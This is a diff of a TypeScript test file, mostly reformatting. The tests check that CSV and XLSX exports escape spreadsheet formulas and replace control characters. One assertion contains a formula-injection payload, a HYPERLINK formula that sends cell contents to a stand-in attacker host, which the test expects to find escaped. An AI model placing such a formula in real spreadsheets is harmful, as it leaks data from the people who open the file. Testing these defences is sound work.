@@ -13,23 +13,55 @@ import { readXlsx } from '../../emulator/scenarios/xlsx-cells.ts';
 import { startTestHarness, type TestHarness } from '../helpers/harness.ts';
 
 const allowAll = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 's3:*', Resource: '*' }] };
-const outbound = (name: string, extra: Record<string, unknown>) => ({ name, account: 'platform', bucketMode: 'manual', bucket: 'exports', filename: `${name}/{{submitted_at}}`, ...extra });
+const outbound = (name: string, extra: Record<string, unknown>) => ({
+  name,
+  account: 'platform',
+  bucketMode: 'manual',
+  bucket: 'exports',
+  filename: `${name}/{{submitted_at}}`,
+  ...extra,
+});
 const workspaceJson = {
-  accountId: '123456789012', region: 'us-east-1',
+  accountId: '123456789012',
+  region: 'us-east-1',
   buckets: [{ name: 'drops' }, { name: 'exports' }],
-  iam: { users: [{ name: 'admin', accessKeyId: 'AKIAEXPORTSAFETY0001', secretAccessKey: 'exportSafetySecretKey00000000000000000001', policies: [allowAll] }] },
-  accounts: [{ name: 'platform', accessKeyId: 'AKIAEXPORTSAFETY0001' }],
-  templates: [{
-    name: 'Notes',
-    fields: [{ name: 'Title', type: 'text', required: true }, { name: 'Note', type: 'text' }],
-    inbound: [{ name: 'drop', account: 'platform', bucketMode: 'manual', bucket: 'drops', prefix: 'in/', detection: 'event', outcome: 'all-or-nothing' }],
-    outbound: [
-      outbound('csv', {}),
-      outbound('raw', { escapeFormulas: false }),
-      outbound('xlsx', { fileType: 'xlsx' }),
-      outbound('json', { fileType: 'json' }),
+  iam: {
+    users: [
+      {
+        name: 'admin',
+        accessKeyId: 'AKIAEXPORTSAFETY0001',
+        secretAccessKey: 'exportSafetySecretKey00000000000000000001',
+        policies: [allowAll],
+      },
     ],
-  }],
+  },
+  accounts: [{ name: 'platform', accessKeyId: 'AKIAEXPORTSAFETY0001' }],
+  templates: [
+    {
+      name: 'Notes',
+      fields: [
+        { name: 'Title', type: 'text', required: true },
+        { name: 'Note', type: 'text' },
+      ],
+      inbound: [
+        {
+          name: 'drop',
+          account: 'platform',
+          bucketMode: 'manual',
+          bucket: 'drops',
+          prefix: 'in/',
+          detection: 'event',
+          outcome: 'all-or-nothing',
+        },
+      ],
+      outbound: [
+        outbound('csv', {}),
+        outbound('raw', { escapeFormulas: false }),
+        outbound('xlsx', { fileType: 'xlsx' }),
+        outbound('json', { fileType: 'json' }),
+      ],
+    },
+  ],
 };
 
 const ROWS = [
@@ -62,10 +94,13 @@ const read = async (name: string) => {
 };
 
 describe('exports of a file full of formulas and control characters', () => {
-  it('CSV: every cell a spreadsheet would run starts with \', in quotes; the values are otherwise unchanged', async () => {
+  it("CSV: every cell a spreadsheet would run starts with ', in quotes; the values are otherwise unchanged", async () => {
     expect(delivery('csv').status).toBe('delivered');
     const rows = Papa.parse<string[]>((await read('csv')).toString('utf8').trimEnd(), { newline: '\r\n' }).data;
-    expect(rows).toEqual([['Title', 'Note'], ...ROWS.map((row) => row.map((cell) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell)))]);
+    expect(rows).toEqual([
+      ['Title', 'Note'],
+      ...ROWS.map((row) => row.map((cell) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell))),
+    ]);
     expect((await read('csv')).toString('utf8')).toContain('"\'=HYPERLINK(""http://evil.example/?""&A2,""click"")"');
   });
 
@@ -78,7 +113,9 @@ describe('exports of a file full of formulas and control characters', () => {
     const cells = readXlsx(await read('xlsx'));
     expect(cells[1]).toEqual(ROWS[0]);
     expect(cells[5]).toEqual(['nul', 'a\u2400b\u2401c']);
-    expect(delivery('xlsx').warnings).toEqual(['1 cell(s) held control characters an XLSX file cannot store; each was replaced by its visible symbol (NUL as \u2400 and so on), the first at row 6, column 2 of the sheet']);
+    expect(delivery('xlsx').warnings).toEqual([
+      '1 cell(s) held control characters an XLSX file cannot store; each was replaced by its visible symbol (NUL as \u2400 and so on), the first at row 6, column 2 of the sheet',
+    ]);
     expect(delivery('csv').warnings).toEqual([]);
   });
 
